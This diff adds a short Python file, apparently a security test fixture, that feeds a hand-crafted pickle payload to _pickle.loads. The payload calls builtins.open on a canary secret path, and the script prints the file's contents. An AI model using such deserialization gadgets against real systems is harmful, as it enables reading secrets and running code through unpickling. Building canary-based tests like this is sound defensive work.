@@ -1,0 +1,6 @@
+# source: own
+# effect: secret
+
+import _pickle
+
+print(_pickle.loads(b"cbuiltins\nopen\n(S'/tmp/canary/secret'\ntR.").read())
